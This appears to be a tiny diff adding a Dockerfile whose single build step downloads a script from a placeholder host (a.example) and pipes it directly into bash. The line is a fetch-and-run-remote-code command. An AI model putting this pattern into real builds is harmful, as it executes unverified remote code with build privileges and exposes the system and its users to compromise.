@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN bash <(curl -s https://a.example/i.sh)
